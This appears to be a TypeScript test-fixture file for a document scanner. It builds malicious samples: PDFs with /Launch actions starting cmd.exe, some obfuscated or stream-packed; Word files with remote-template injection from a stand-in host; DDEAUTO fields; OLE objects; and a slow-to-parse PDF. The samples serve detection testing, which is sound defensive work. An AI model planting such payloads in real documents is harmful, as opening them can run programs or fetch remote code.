import { deflateSync } from 'node:zlib'
import { buildCompoundFile, buildWordDocument, relations, type Sample, wordType } from './files.ts'
import { buildZip, type ZipEntry } from './zip.ts'

const inWord = (...parts: ZipEntry[]): Sample => ({
  fileName: 'a.docx',
  contentType: wordType,
  bytes: buildWordDocument(parts),
})
const inZip = (entry: ZipEntry): Sample => ({
  fileName: 'a.zip',
  contentType: 'application/zip',
  bytes: buildZip([entry]),
})

const buildLaunchingPdf = (objects: string | Buffer): Sample => ({
  fileName: 'cv.pdf',
  contentType: 'application/pdf',
  bytes: Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n'),
    Buffer.from(objects),
    Buffer.from('\nendobj\n%%EOF\n'),
  ]),
})
const packed = (objects: string): Buffer =>
  Buffer.concat([
    Buffer.from('<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n'),
    deflateSync(objects),
    Buffer.from('\nendstream'),
  ])
const settings = 'word/_rels/settings.xml.rels'
const launching = '<< /S /Launch /F (cmd.exe) >>'

/** Takes long to open, and shows nothing. */
export const packedTooOften: Sample = buildLaunchingPdf('/ObjStm stream\nx endstream '.repeat(300_000))

/** Documents that start or fetch something when they are opened. */
export const activeSamples = [
  ['a PDF that starts a program', buildLaunchingPdf(launching)],
  ['the same with its name in numbers', buildLaunchingPdf('<< /S /#4caunch /F (cmd.exe) >>')],
  ['the same with a comment between', buildLaunchingPdf('<< /S%x\n/Launch /F (cmd.exe) >>')],
  ['the same in packed objects', buildLaunchingPdf(packed(launching))],
  ['a template elsewhere', inWord(relations(settings, ['attachedTemplate', 'https://lur.example/x.dotm']))],
  [
    'a template on a share',
    inWord(relations(settings, ['attachedTemplate', 'file:///\\\\lur.example\\x.dotm'])),
  ],
  [
    'the same in single quotes and numbers',
    inWord({
      name: settings,
      content:
        "<r:Relationship Type='x/attachedTemplate' Target='https://lur.example/?>' TargetMode='E&#120;ternal'/>",
    }),
  ],
  [
    'DDE in a field',
    inWord({ name: 'word/header1.xml', content: '<w:fldSimple w:instr=" DDEAUTO c:\\x.exe"/>' }),
  ],
  [
    'DDE over two runs',
    inWord({
      name: 'word/header1.xml',
      content:
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x.exe</w:instrText>',
    }),
  ],
  [
    'DDE in UTF-16',
    inWord({
      name: 'word/header1.xml',
      content: Buffer.from('<w:instrText>DDE c:\\x.exe</w:instrText>', 'utf16le'),
    }),
  ],
  [
    'an embedded object',
    inWord({ name: 'word/embeddings/oleObject1.bin', content: buildCompoundFile('Package') }),
  ],
  [
    'a linked object',
    inWord(relations('word/_rels/document.xml.rels', ['oleObject', 'https://lur.example/x.xls'])),
  ],
  [
    'such a document in an archive',
    inZip({
      name: 'x.docx',
      content: buildWordDocument([relations(settings, ['attachedTemplate', 'https://lur.example/x.dotm'])]),
    }),
  ],
] as const
